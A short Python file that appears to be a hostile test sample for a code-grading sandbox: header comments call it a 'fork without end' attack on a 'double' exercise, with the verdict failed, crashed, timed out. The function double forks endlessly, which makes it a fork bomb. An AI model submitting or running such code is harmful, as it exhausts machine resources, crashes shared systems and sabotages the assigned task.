# attack: fork without end
# exercise: double
# verdict: failed, crashed, timed out
import os


def double(x):
    while True:
        os.fork()
